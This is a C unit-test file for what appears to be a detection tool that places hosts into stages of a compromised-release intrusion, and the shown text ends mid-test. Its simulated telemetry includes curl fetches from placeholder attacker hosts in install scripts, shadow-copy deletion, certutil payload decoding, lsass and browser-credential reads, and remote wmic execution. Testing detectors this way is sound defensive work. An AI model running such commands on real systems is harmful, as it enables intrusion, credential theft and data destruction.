/* SPDX-License-Identifier: Apache-2.0 */
#include "test.h"

#include "stage_build.h"

static void a_release_is_product_version_system_and_content(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	stage_wanted_hash(&f.known, slice_str("bb"), slice_str(APP));
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN),
		  HOST("OLDER", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD),
		  HOST("NO HASH", "10 process_start explorer.exe#1 > {a}" APP "#2 | product=App | version=2.0.0.0 | company=Maker Ltd"),
		  HOST("RENAMED", "10 process_start explorer.exe#1 > {a}C:\\t\\x.exe#2 | sha256=bb"),
		  HOST("OTHER MAKER", "10 process_start explorer.exe#1 > {a}C:\\t\\y.exe#2 | product=App | version=2.0 | company=Elsewhere"),
		  HOST("OTHER SYSTEM", "10 process_start bash#1 > {a}/Applications/App.app/app#2 | product=App | version=2.0 | company=Maker"),
		  HOST("OTHER CONTENT", "10 process_start explorer.exe#1 > {a}" APP "#2 | product=App | version=2.0 | company=Maker | sha256=cc"));
	assert_shown(&f, 0, "S3");
	assert_shown(&f, 1, "");
	assert_shown(&f, 2, "S3");
	assert_shown(&f, 3, "S3");
	assert_shown(&f, 4, "");
	assert_shown(&f, 5, "");
	assert_shown(&f, 6, "");
	assert_int_equal(f.got.list[6].unclear.n, 1); /* the version's number alone names nothing */
	assert_int_equal(f.got.list[1].unclear.n, 0);
	end(&f);
}

static void a_host_with_4688_alone_is_told_by_its_installer(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN),
		  HOST("TOLD", "5 package - > App | version=2.0 | action=install | company=Maker",
		       "9 process_start C:\\Windows\\explorer.exe#1 > " APP "#2"),
		  HOST("BEFORE", "9 process_start C:\\Windows\\explorer.exe#1 > " APP "#2",
		       "7000 package - > App | version=2.0 | action=install | company=Maker"),
		  HOST("OLDER", "5 package - > App | version=1.0 | action=install | company=Maker",
		       "9 process_start C:\\Windows\\explorer.exe#1 > " APP "#2"),
		  HOST("UNTOLD", "9 process_start C:\\Windows\\explorer.exe#1 > C:\\Program Files\\App\\app.exe#2"));
	assert_shown(&f, 1, "S2 S3");
	assert_true(f.got.list[1].installed);
	assert_shown(&f, 2, "S2");
	assert_int_equal(f.got.list[2].unclear.n, 1);
	assert_shown(&f, 3, "");
	assert_int_equal(f.got.list[3].unclear.n, 0);
	assert_shown(&f, 4, "");
	assert_int_equal(f.got.list[4].unclear.n, 1);
	end(&f);
}

static void offer_and_delivery_are_told_from_the_installation_back(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN),
		  HOST("B", "100 process_start - > {u}C:\\Program Files\\App\\up.exe#5 | command_line=up.exe --from https://get.example/2.0",
		       "101 file_create {u}C:\\Program Files\\App\\up.exe#5 > C:\\t\\app2.msi",
		       "102 process_start {u}C:\\Program Files\\App\\up.exe#5 > {m}" MSI "#6 | command_line=msiexec /i C:\\t\\app2.msi",
		       "103 file_create {s}" MSI "#7 > " APP,
		       "104 package - > App | version=2.0 | action=install | company=Maker"));
	assert_shown(&f, 1, "S0 S1 S2");
	assert_int_equal(f.got.list[1].proofs[STAGE_S1].count, 2);
	assert_int_equal(f.got.list[1].proofs[STAGE_S1].first_ns, TOLD_SECONDS(101));
	end(&f);
}

static void an_address_of_two_versions_offers_neither(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	stage_wanted_url(&f.known, slice_str("https://get.example/2.0"), true);
	RUN_HOSTS(&f, HOST("A", "1 http_request {b}chrome.exe#3 > https://get.example/2.0"));
	assert_shown(&f, 0, "");
	end(&f);
}

#define ALONE(at, key, where) at " !dns_query {" key "}" APP "#2 > " where
#define CALL(at, key, where) at " dns_query {" key "}" APP "#2 > " where

static void it_calls_whom_neither_others_nor_other_versions_call(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD),
		       CALL("22", "a", "cdn.example"), CALL("23", "a", "printer"), "24 network_connect {a}" APP "#2 > 10.0.0.7"),
		  HOST("B", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD)),
		  HOST("NEW", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", "more.example")),
		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("20", "a", GOOD)),
		  HOST("NONE", "20 dns_query {c}chrome.exe#4 > cdn.example"),
		  HOST("OTHER", "20 dns_query {c}chrome.exe#4 > " BAD));
	/* BAD is asked for by another program on a host without it: that is no longer its own. */
	assert_shown(&f, 0, "S3");
	end(&f);

	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD),
		       "30 dns_query {c}chrome.exe#4 > " BAD),
		  HOST("B", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("85", "a", BAD)),
		  HOST("NEW", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", "more.example")),
		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("20", "a", GOOD)));
	assert_int_equal(f.known.destinations.n, 1);
	assert_shown(&f, 0, "S3 S4");
	assert_shown(&f, 1, "S3 S4");
	assert_shown(&f, 2, "S3"); /* no host with alerts calls that */
	end(&f);
}

static void without_another_version_nobody_knows_whom_it_calls(void **state)
{
	struct fixture f;
	const char *why;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f, HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD)));
	assert_false(stage_known_calls(&f.known, &why));
	assert_non_null(why);
	end(&f);
}

static void without_another_version_hosts_are_told_apart(void **state)
{
#define HAS(name, ...) HOST(name, "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, __VA_ARGS__)
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f, HAS("A", CALL("20", "a", BAD), CALL("21", "a", GOOD), CALL("22", "a", "cdn.example")),
		  HAS("B", CALL("20", "a", BAD), CALL("21", "a", GOOD), CALL("22", "a", "cdn.example")), HAS("C", CALL("21", "a", GOOD)),
		  HOST("NONE", "20 dns_query {c}chrome.exe#4 > cdn.example"));
	assert_int_equal(f.known.destinations.n, 1); /* not what all that have it call, nor what others do */
	assert_shown(&f, 0, "S3 S4");
	assert_shown(&f, 1, "S3 S4");
	assert_shown(&f, 2, "S3");
	end(&f);
	start(&f, &release, "A D");
	RUN_HOSTS(&f, HAS("A", CALL("20", "a", BAD), CALL("21", "a", GOOD)), HAS("B", CALL("20", "a", BAD), CALL("21", "a", GOOD)),
		  HAS("D", CALL("21", "a", GOOD)));
	assert_int_equal(f.known.destinations.n, 0); /* one with alerts does not call it */
	end(&f);
}

static void an_alert_on_a_contact_stands_for_the_other_version(void **state)
{
	struct stage_place_key second = { 1, 2, 100 };
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	map_set(&f.alerts, slice_of(&second, sizeof(second)), 1);
	RUN_HOSTS(&f, HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, ALONE("20", "a", BAD), ALONE("21", "a", GOOD)));
	assert_int_equal(f.known.destinations.n, 1);
	assert_shown(&f, 0, "S3 S4");
	assert_int_equal(f.got.list[0].proofs[STAGE_S4].count, 1);
	end(&f);
}

static void a_beacon_comes_three_times_and_not_at_once(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("3600", "a", BAD),
		       CALL("7200", "a", BAD)),
		  HOST("BURST", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, ALONE("20", "a", BAD), ALONE("21", "a", BAD),
		       ALONE("22", "a", BAD), ALONE("3600", "a", BAD)),
		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("20", "a", GOOD)));
	assert_shown(&f, 0, "S3 S4 S5");
	assert_shown(&f, 1, "S3 S4");
	assert_int_equal(f.got.list[0].proofs[STAGE_S4].timed, 3);
	assert_int_equal(f.got.list[0].proofs[STAGE_S4].last_ns, TOLD_SECONDS(7200));
	end(&f);
}

static void what_it_writes_and_then_loads_is_a_second_stage(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", RUNS, "50 file_create {a}" APP "#2 > C:\\Program Files\\App\\new.dll",
		       "60 image_load {a}" APP "#2 > C:\\Program Files\\App\\new.dll | sha256=ee"),
		  HOST("INSTALLED", RUNS, "5 file_create {m}" MSI "#9 > " LIB, "60 image_load {a}" APP "#2 > " LIB " | sha256=dd"),
		  HOST("UPDATED", RUNS, "50 file_create {a}" APP "#2 > C:\\t\\app-3.0.exe",
		       "60 process_start {a}" APP "#2 > {n}C:\\t\\app-3.0.exe#3 | product=App | version=3.0 | company=Maker"),
		  HOST("RUN", RUNS, "50 file_create {a}" APP "#2 > C:\\t\\tool.exe",
		       "60 process_start {a}" APP "#2 > {n}C:\\t\\tool.exe#3"));
	assert_shown(&f, 0, "S3 S6");
	assert_shown(&f, 1, "S3");
	assert_shown(&f, 2, "S3");
	assert_shown(&f, 3, "S3 S6");
	end(&f);
}

static void what_another_version_does_too_says_nothing(void **state)
{
	static const char shell[] = "50 process_start {a}" APP "#2 > {s}C:\\Windows\\System32\\cmd.exe#7 | command_line=cmd.exe /Q";
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f, HOST("A", RUNS, shell));
	assert_shown(&f, 0, "S3 S7");
	end(&f);
	start(&f, &release, "A");
	RUN_HOSTS(&f, HOST("A", RUNS, shell), HOST("OLD", RAN_OLD, shell));
	assert_shown(&f, 0, "S3");
	end(&f);
}

static void commands_count_by_what_they_are(void **state)
{
#define SHELL(line) "50 process_start {a}" APP "#2 > {s}C:\\Windows\\System32\\cmd.exe#7 | command_line=" line
#define ASKS(at, tool, line) at " process_start {s}C:\\Windows\\System32\\cmd.exe#7 > {t" at "}C:\\Windows\\System32\\" tool "#8 | command_line=" line
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("ONE", RUNS, SHELL("cmd /c hostname"), ASKS("51", "hostname.exe", "hostname")),
		  HOST("TWO", RUNS, SHELL("cmd /c x.bat"), ASKS("51", "whoami.exe", "whoami /all"), ASKS("55", "nltest.exe", "nltest /domain_trusts")),
		  HOST("MOVES", RUNS, SHELL("cmd /c y"), ASKS("51", "wmic.exe", "wmic /node:PC2 process call create x")),
		  HOST("WIPES", RUNS, SHELL("cmd /c z"), ASKS("51", "vssadmin.exe", "vssadmin delete shadows /all /quiet")),
		  HOST("BROWSER", RUNS, "50 process_start {a}" APP "#2 > {b}C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe#7",
		       "51 process_start {b}C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe#7 > {c}C:\\Windows\\System32\\cmd.exe#8 | command_line=cmd.exe /Q"),
		  HOST("NOT IT", RUNS, "50 process_start explorer.exe#1 > {s}C:\\Windows\\System32\\cmd.exe#7 | command_line=cmd.exe"));
	assert_shown(&f, 0, "S3");
	assert_shown(&f, 1, "S3 S7");
	assert_shown(&f, 2, "S3 S7");
	assert_shown(&f, 3, "S3 S8");
	assert_shown(&f, 4, "S3");
	assert_shown(&f, 5, "S3");
	end(&f);
}

static void memory_and_stores_of_others(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("LOOKS", RUNS, "50 process_access {a}" APP "#2 > {e}C:\\Windows\\explorer.exe#1 | access=0x1410"),
		  HOST("READS", RUNS, "50 process_access {a}" APP "#2 > {l}C:\\Windows\\System32\\lsass.exe#1 | access=0x1010"),
		  HOST("WRITES", RUNS, "50 process_access {a}" APP "#2 > {e}C:\\Windows\\explorer.exe#1 | access=0x1FFFFF"),
		  HOST("ITSELF", RUNS, "50 remote_thread {a}" APP "#2 > {b}" APP "#3"),
		  HOST("THREAD", RUNS, "50 remote_thread {a}" APP "#2 > {e}C:\\Windows\\explorer.exe#1"),
		  HOST("STORE", RUNS, "50 file_read {a}" APP "#2 > C:\\Users\\u\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"),
		  HOST("FILE", RUNS, "50 file_read {a}" APP "#2 > C:\\Users\\u\\Documents\\history.txt"));
	assert_shown(&f, 0, "S3");
	assert_shown(&f, 1, "S3 S6");
	assert_shown(&f, 2, "S3 S6");
	assert_shown(&f, 3, "S3");
	assert_shown(&f, 4, "S3 S6");
	assert_shown(&f, 5, "S3 S6");
	assert_shown(&f, 6, "S3");
	end(&f);
}

#define INSTALLS "40 package - > App | version=2.0 | action=install | company=Maker"

static void a_block_is_one_of_its_files_and_of_its_time(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f, HOST("A", RUNS, "11 image_load {a}" APP "#2 > " LIB " | sha256=dd"),
		  HOST("BLOCKED", "38 alert - > " LIB " | action=Quarantine", INSTALLS),
		  HOST("BY HASH", "38 alert - > C:\\t\\x.tmp | sha256=bb | action=blocked"),
		  HOST("SEEN", "38 alert - > " LIB " | action=Not Applicable", INSTALLS),
		  HOST("ALLOWED", "38 alert - > " LIB " | action=Allow", INSTALLS),
		  HOST("OTHER FILE", "38 alert - > C:\\t\\y.dll | action=Quarantine", INSTALLS),
		  HOST("OLDER", "38 alert - > " LIB " | action=Quarantine", "40 package - > App | version=1.0 | action=install | company=Maker"),
		  HOST("A PROGRAM", "38 alert " APP "#4 > - | sha256=bb | action=mitigated"));
	for (size_t i = 1; i < 8; i++)
		assert_int_equal(f.got.list[i].blocked.n, i == 1 || i == 2 || i == 7);
	end(&f);
}

static void removal_and_replacement_end_it(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f, HOST("GONE", INSTALLS, "9000 package - > App | version=2.0 | action=remove | company=Maker"),
		  HOST("NEXT", INSTALLS, "9000 package - > App | version=2.1 | action=install | company=Maker",
		       "9100 process_start C:\\Windows\\explorer.exe#1 > " APP "#2"),
		  HOST("AGAIN", INSTALLS, "9000 package - > App | version=2.0 | action=installed | company=Maker"));
	for (size_t i = 0; i < 3; i++) {
		assert_shown(&f, i, "S2");
		assert_int_equal(f.got.list[i].removed.n, i < 2);
	}
	end(&f);
}

static void lives_of_one_name_are_apart(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f, HOST("A", "10 process_start - > {aaaa0001-0000-0000-0000-000000000001}" APP "#2" OWN,
			   "5000 process_start - > {bbbb0002-0000-0000-0000-000000000001}C:\\Windows\\notepad.exe#3",
			   "6000 package - > App | version=2.0 | action=install | company=Maker"));
	assert_int_equal(f.got.n, 2);
	assert_shown(&f, 0, "S3");
	assert_shown(&f, 1, "S2");
	assert_int_equal(f.got.list[0].epoch, 1);
	assert_int_equal(f.got.list[1].epoch, 2);
	assert_true(f.got.list[0].to_ns < f.got.list[1].from_ns);
	assert_slice(f.got.list[1].clone_group, "bbbb0002");
	end(&f);
}

static void a_moment_that_it_wrote_down_is_kept(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", RUNS, "50 registry_set {a}" APP "#2 > HKU\\S\\Next | details=DWORD (0x00020000)"),
		  HOST("PAST", RUNS, "50 registry_set {a}" APP "#2 > HKU\\S\\Last | details=DWORD (0x00000020)"),
		  HOST("TEXT", RUNS, "50 registry_set {a}" APP "#2 > HKU\\S\\Next | details=1970-01-03T00:00:00Z"),
		  HOST("NOT IT", "50 registry_set {z}C:\\z.exe#2 > HKU\\S\\Next | details=1970-01-03T00:00:00Z"));
	assert_int_equal(f.got.list[0].timer_ns, TOLD_SECONDS(0x20000));
	assert_int_equal(f.got.list[1].timer.n, 0);
	assert_int_equal(f.got.list[2].timer_ns, TOLD_SECONDS(172800));
	assert_int_equal(f.got.list[3].timer.n, 0);
	end(&f);
}

static void a_download_is_its_content_or_the_file_on_hosts_with_alerts(void **state)
{
#define FETCHED "C:\\Users\\%s\\Downloads\\setup.exe"
	static const struct stage_wanted download = { .kind = ORIGIN_DOWNLOAD,
						      .line = SLICE("download https://x.example/setup.exe"),
						      .os = SLICE("windows"),
						      .path = SLICE("C:\\Users\\ann\\Downloads\\setup.exe"),
						      .url = SLICE("https://x.example/setup.exe") };
	struct fixture f;

	(void)state;
	start(&f, &download, "A");
	stage_wanted_hash(&f.known, slice_str("f0"), slice_str("setup.exe"));
	RUN_HOSTS(&f,
		  HOST("A", "5 download {c}chrome.exe#4 > C:\\Users\\ann\\Downloads\\setup.exe | host_url=https://x.example/setup.exe",
		       "9 process_start explorer.exe#1 > {s}C:\\Users\\ann\\Downloads\\setup.exe#5", "20 dns_query {s}C:\\Users\\ann\\Downloads\\setup.exe#5 > " BAD),
		  HOST("B", "9 process_start explorer.exe#1 > {s}C:\\Users\\bob\\Downloads\\setup.exe#5 | sha256=f0", "20 dns_query {s}C:\\Users\\bob\\Downloads\\setup.exe#5 > " BAD),
		  HOST("C", "9 process_start explorer.exe#1 > {s}C:\\Users\\eve\\Downloads\\setup.exe#5"),
		  HOST("D", "9 process_start explorer.exe#1 > {s}C:\\Users\\dan\\Downloads\\setup.exe#5 | sha256=f1"));
	assert_shown(&f, 0, "S0 S1 S3 S4");
	assert_shown(&f, 1, "S3 S4");
	assert_shown(&f, 2, "");
	assert_int_equal(f.got.list[2].unclear.n, 1);
	assert_shown(&f, 3, "");
	assert_int_equal(f.got.list[3].unclear.n, 0);
	end(&f);
}

static void inventories_show_what_is_there(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	stage_wanted_hash(&f.known, slice_str("bb"), slice_str(APP));
	RUN_HOSTS(&f,
		  HOST("FILE", "- file_present - > C:\\x\\copy.bin | sha256=bb"),
		  HOST("LIST", "- inventory - > App 2.0 (64-bit) | version=2.0.0 | company=Maker"),
		  HOST("OLDER", "- inventory - > App | version=1.0 | company=Maker", "- file_present - > " APP " | sha256=aa"),
		  HOST("NAME", "- file_present - > " APP));
	assert_shown(&f, 0, "S2");
	assert_shown(&f, 1, "S2");
	assert_shown(&f, 2, "");
	assert_shown(&f, 3, "");
	assert_false(f.got.list[0].proofs[STAGE_S2].shown[0].timed);
	end(&f);
}

static void a_host_with_any_of_a_tie_is_told(void **state)
{
	static const struct stage_wanted other = { .kind = ORIGIN_RELEASE,
						   .line = SLICE("release Tool 7.1"),
						   .product = SLICE("Tool"),
						   .version = SLICE("7.1"),
						   .os = SLICE("windows") };
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	assert_true(stage_wanted_add(&f.known, &other));
	RUN_HOSTS(&f, HOST("A", RUNS), HOST("B", "10 process_start explorer.exe#1 > {t}C:\\Tool\\t.exe#2 | product=Tool | version=7.1"),
		  HOST("C", "10 process_start explorer.exe#1 > {t}C:\\Tool\\t.exe#2 | product=Tool | version=7.0"));
	assert_shown(&f, 0, "S3");
	assert_shown(&f, 1, "S3");
	assert_shown(&f, 2, "");
	end(&f);
}

static void a_language_package_is_its_folder_in_its_version(void **state)
{
	static const struct stage_wanted package = { .kind = ORIGIN_PACKAGE,
						     .line = SLICE("package left-pad 1.3.1"),
						     .product = SLICE("left-pad"),
						     .version = SLICE("1.3.1"),
						     .ecosystem = SLICE("npm") };
#define NODE "/usr/bin/node"
#define SCRIPT " | command_line=node /srv/app/node_modules/left-pad/setup.js"
	struct fixture f;

	(void)state;
	start(&f, &package, "A");
	RUN_HOSTS(&f, HOST("A", "9 process_start - > {n}" NODE "#4" SCRIPT, "20 dns_query {n}" NODE "#4 > " BAD),
		  HOST("B", "8 package - > left-pad | version=1.3.1 | action=install", "9 process_start - > {n}" NODE "#4" SCRIPT),
		  HOST("C", "8 package - > left-pad | version=1.3.0 | action=install", "9 process_start - > {n}" NODE "#4" SCRIPT,
		       "20 dns_query {n}" NODE "#4 > " GOOD),
		  HOST("D", "9 process_start - > {n}" NODE "#4 | command_line=node /srv/app/node_modules/right-pad/setup.js"));
	assert_shown(&f, 0, "S3 S4");
	assert_shown(&f, 1, "S2 S3");
	assert_shown(&f, 2, "");
	assert_int_equal(f.got.list[2].unclear.n, 0);
	assert_shown(&f, 3, "");
	end(&f);
}

static void files_that_go_by_the_hundred(void **state)
{
	static char lines[2][260][120];
	const char *list[2][260];
	struct told_host hosts[2];
	struct fixture f;

	(void)state;
	for (size_t h = 0; h < 2; h++) {
		list[h][0] = RUNS;
		for (size_t i = 1; i < 260; i++) {
			snprintf(lines[h][i], sizeof(lines[h][i]), "%zu file_delete {a}" APP "#2 > C:\\Users\\u\\%s\\f%zu\\%zu.doc",
				 100 + i, h ? "AppData\\Local" : "Documents", i % 7, i);
			list[h][i] = lines[h][i];
		}
		hosts[h] = (struct told_host){ h ? "TIDIES" : "LOSES", list[h], 260 };
	}
	start(&f, &release, "A");
	run_hosts(&f, hosts, 2);
	assert_shown(&f, 0, "S3 S8");
	assert_shown(&f, 1, "S3");
	end(&f);
}

static void a_session_is_nothing_that_could_lie_on_a_host(void **state)
{
	static const struct stage_wanted logon = { .kind = ORIGIN_LOGON, .line = SLICE("a session on the machine itself") };
	struct fixture f;

	(void)state;
	start(&f, &logon, "A");
	assert_non_null(stage_known_nothing(&f.known));
	end(&f);
	start(&f, &release, "A");
	assert_null(stage_known_nothing(&f.known));
	end(&f);
}

#define POSTINST(at, name) at " process_start {d}/usr/bin/dpkg#1 > {p}/usr/bin/dash#2 | command_line=/bin/sh /var/lib/dpkg/info/" name ".postinst configure"
#define ELSEWHERE "22 process_start {p}/usr/bin/dash#2 > /usr/bin/curl#3 | command_line=curl -s http://203.0.113.8/i"

static void a_package_is_what_its_manager_runs_for_it(void **state)
{
	static const struct stage_wanted w = { .kind = ORIGIN_PACKAGE, .product = SLICE("tool"), .version = SLICE("2.0") };
	struct fixture f;

	(void)state;
	start(&f, &w, "A B");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start systemd#1 > {o}/opt/tool/bin/tool#4", "11 network_connect {o}/opt/tool/bin/tool#4 > 203.0.113.1",
		       "5000 package - > tool | version=2.0 | action=upgrade", POSTINST("5001", "tool:amd64"),
		       "5002 process_start {p}/usr/bin/dash#2 > {c}/usr/bin/curl#3 | command_line=curl -s http://203.0.113.7/i",
		       "5003 network_connect {c}/usr/bin/curl#3 > 203.0.113.7",
		       "5010 process_start systemd#1 > {n}/opt/tool/bin/tool#5", "5011 network_connect {n}/opt/tool/bin/tool#5 > 203.0.113.1"),
		  HOST("OTHER PACKAGE", POSTINST("20", "gadget"), ELSEWHERE),
		  HOST("OTHER VERSION", "19 package - > tool | version=1.0 | action=install", POSTINST("20", "tool"), ELSEWHERE));
	assert_shown(&f, 0, "S2 S3 S4");
	assert_int_equal(f.got.list[0].proofs[STAGE_S3].first_ns, TOLD_SECONDS(5001));
	assert_int_equal(f.got.list[0].proofs[STAGE_S4].first_ns, TOLD_SECONDS(5002));
	assert_shown(&f, 1, "");
	assert_shown(&f, 2, "");
	end(&f);
}

static void a_registry_package_runs_in_its_folder(void **state)
{
	static const struct stage_wanted w = { .kind = ORIGIN_PACKAGE, .product = SLICE("api-bridge"), .ecosystem = SLICE("pypi") };
	struct fixture f;

	(void)state;
	start(&f, &w, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 file_create {i}C:\\Python\\python.exe#1 > C:\\w\\site-packages\\api_bridge\\setup.py",
		       "11 process_start {i}C:\\Python\\python.exe#1 > {p}C:\\Python\\python.exe#2 | command_line=python setup.py install | "
		       "directory=C:\\w\\site-packages\\api_bridge\\",
		       "12 process_start {p}C:\\Python\\python.exe#2 > {c}C:\\Windows\\System32\\curl.exe#3 | command_line=curl https://" BAD "/i"),
		  HOST("B", "11 process_start - > {p}C:\\Python\\python.exe#2 | command_line=python setup.py install | "
			    "directory=C:\\w\\site-packages\\bridge\\",
		       "12 process_start {p}C:\\Python\\python.exe#2 > C:\\Windows\\System32\\curl.exe#3 | command_line=curl https://" GOOD "/i"));
	assert_shown(&f, 0, "S1 S3 S4");
	assert_shown(&f, 1, "");
	end(&f);
}

static void a_registry_package_is_asked_for_by_name(void **state)
{
#define PIP(args) "10 process_start C:\\Windows\\explorer.exe#9 > {i}C:\\Python\\python.exe#1 | command_line=python -m pip " args
#define SETUP "11 process_start {i}C:\\Python\\python.exe#1 > C:\\Python\\python.exe#2 | command_line=python setup.py"
	static const struct stage_wanted w = { .kind = ORIGIN_PACKAGE, .product = SLICE("api-bridge"), .ecosystem = SLICE("pypi") };
	struct fixture f;

	(void)state;
	start(&f, &w, "Z");
	RUN_HOSTS(&f, HOST("A", PIP("install api_bridge==1.0"), SETUP), HOST("OTHER", PIP("install bridge==1.0"), SETUP),
		  HOST("SHOWN", PIP("show api-bridge"), SETUP), HOST("LONGER", PIP("install api-bridge-tools"), SETUP));
	assert_shown(&f, 0, "S0 S3");
	for (size_t i = 1; i < 4; i++)
		assert_shown(&f, i, "");
	end(&f);
}

#define CRT "C:\\Windows\\Temp\\x.crt"
#define DECODED "C:\\Windows\\Temp\\x.exe"
#define AGENT "C:\\Windows\\CCM\\CcmExec.exe"
#define COMMANDS "C:\\Windows\\System32\\cmd.exe"
#define UNPACK(from, to) "11 process_start {a}" AGENT "#1 > {s}" COMMANDS "#2 | command_line=cmd.exe /c certutil -decode " from " " to

static void what_an_agent_dropped_is_also_what_was_unpacked_from_it(void **state)
{
	static const struct stage_wanted w = { .kind = ORIGIN_DEPLOYMENT, .path = SLICE(CRT) };
	struct fixture f;

	(void)state;
	start(&f, &w, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 file_create {a}" AGENT "#1 > " CRT, UNPACK(CRT, DECODED), "12 file_create {s}" COMMANDS "#2 > " DECODED,
		       "13 process_start {s}" COMMANDS "#2 > {x}" DECODED "#3 | sha256=dd", "20 dns_query {x}" DECODED "#3 > " BAD,
		       "21 file_create {x}" DECODED "#3 > C:\\Windows\\Temp\\more.dll",
		       "22 image_load {x}" DECODED "#3 > C:\\Windows\\Temp\\more.dll"),
		  HOST("QUIET", UNPACK(CRT, DECODED), "13 process_start {s}" COMMANDS "#2 > {x}" DECODED "#3", "20 dns_query {x}" DECODED "#3 > " BAD),
		  HOST("OTHER FILE", UNPACK("C:\\Windows\\Temp\\y.crt", "C:\\Windows\\Temp\\y.exe")));
	assert_shown(&f, 0, "S1 S3 S4 S6");
	assert_int_equal(f.got.list[0].proofs[STAGE_S6].count, 1); /* the library, and not the program */
	assert_shown(&f, 1, "S3 S4");
	assert_shown(&f, 2, "");
	end(&f);
}

#define UP "C:\\Program Files\\App\\up.exe"
#define FETCHES(at, url) at " process_start C:\\Windows\\explorer.exe#1 > " UP "#7 | command_line=up.exe --from " url
#define STARTS(at) at " process_start C:\\Windows\\explorer.exe#1 > " APP "#8"

static void an_updater_tells_which_version_came(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	stage_wanted_content(&f.known, slice_str("App"), slice_str("3.0"), slice_str("Maker"), "windows", slice_str("cc"));
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN),
		  HOST("OWN", FETCHES("50", "https://get.example/2.0"), STARTS("60")),
		  HOST("OWN BY NUMBER", FETCHES("50", "https://mirror.example/app-2.0.zip"), STARTS("60")),
		  HOST("ONLY ASKED", STARTS("40"), FETCHES("50", "https://get.example/2.0")),
		  HOST("NEXT", FETCHES("50", "https://get.example/3.0"), STARTS("60")),
		  HOST("LONGER", FETCHES("50", "https://mirror.example/12.0.1"), STARTS("60")));
	assert_shown(&f, 1, "S0 S3");
	assert_int_equal(f.got.list[1].proofs[STAGE_S3].first_ns, TOLD_SECONDS(60)); /* who fetched it is not it */
	assert_shown(&f, 2, "S0 S3");
	assert_shown(&f, 3, "S0");
	assert_shown(&f, 4, "");
	assert_shown(&f, 5, "");
	end(&f);
}

static void of_whatever_version_says_nothing_of_others(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("20", "a", GOOD)),
		  HOST("UNTOLD", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2", CALL("20", "a", BAD)));
	assert_shown(&f, 0, "S3 S4");
	assert_int_equal(f.got.list[0].proofs[STAGE_S4].count, 1);
	end(&f);
}

static void a_later_version_may_keep_what_it_brought(void **state)
{
#define LATER " | product=App | version=3.0 | company=Maker | sha256=cc"
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
		  HOST("LATER", "10 process_start explorer.exe#1 > {a}" APP "#2" LATER, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("21", "a", GOOD)));
